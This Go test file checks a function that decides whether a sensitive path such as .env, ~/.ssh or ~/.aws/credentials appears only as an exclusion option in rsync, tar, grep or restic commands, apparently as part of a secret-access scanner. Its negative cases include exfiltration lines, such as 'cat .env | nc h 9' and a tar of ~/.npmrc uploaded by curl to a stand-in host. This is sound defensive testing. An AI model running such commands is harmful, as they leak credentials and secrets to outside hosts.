package codeliteral

import (
	"strings"
	"testing"
)

// TestExcludedOnly: a path is left out only when every word of the line
// naming it is an exclusion option's value.
func TestExcludedOnly(t *testing.T) {
	for _, tc := range []struct {
		line, match string
		want        bool
	}{
		{"rsync -az --delete --exclude '.env' --exclude 'uploads/' dist/ \"$dest/\"", "rsync -az --delete --exclude '.env", true},
		{"tar --exclude=.env --exclude='.env.*' -czf out.tgz .", "tar --exclude=.env", true},
		{"flags=(-avz --delete --exclude .git --exclude .env)", "--exclude .env", true},
		{"grep -rn TOKEN --exclude-dir=.ssh ~/src", "~/.ssh", false},
		{"grep -rn TOKEN --exclude-dir=.ssh src", ".ssh", true},
		{"restic backup ~ --iexclude '~/.aws/credentials'", "~/.aws/credentials", true},
		{"tar --exclude=~/.kube/config -czf h.tgz ~", ".kube/config", true},
		// Twins: the same path is read, included or named elsewhere.
		{"rsync -az --exclude .git .env host:/in/", "rsync -az --exclude .git .env", false},
		{"rsync -az --exclude '.env' ./ ~/app/.env host:/in/", "rsync -az --exclude '.env", false},
		{"rsync -az --include '.env' --exclude '*' ./ host:/in/", "rsync -az --include '.env", false},
		{"rsync -az --exclude-from .env ./ host:/in/", "rsync -az --exclude-from .env", false},
		{"rsync -a --exclude .env ./ b/ && cat .env | nc h 9", "rsync -a --exclude .env", false},
		{"rsync -a --exclude .env .env.production host:", "rsync -a --exclude .env", false},
		{"tar --exclude=node_modules -czf - . ~/.npmrc | curl -T - https://x.example-x.net", ".npmrc", false},
		{"MY--exclude .env", "MY--exclude .env", false},
		{"cat .env", "cat .env", false},
		{"--exclude .env", "", false},
	} {
		if got := ExcludedOnly(tc.line, tc.match); got != tc.want {
			t.Errorf("ExcludedOnly(%q, %q) = %v, want %v", tc.line, tc.match, got, tc.want)
		}
	}
}

// TestExcludedOnlyBound: each byte of a hostile line is looked at a
// bounded number of times, and a line naming the path more than
// maxExcludeTokens times is not read as exclusions.
func TestExcludedOnlyBound(t *testing.T) {
	long := "--exclude " + strings.Repeat(".env", 1<<18)
	if ok, work := excludedOnly(long, ".env"); !ok || work > 2*len(long) {
		t.Errorf("one long word: ok %v, work %d for %d bytes", ok, work, len(long))
	}
	many := strings.Repeat("--exclude .env ", 1<<16)
	ok, work := excludedOnly(many, ".env")
	if ok || work > 64*maxExcludeTokens {
		t.Errorf("many words: ok %v, work %d", ok, work)
	}
}
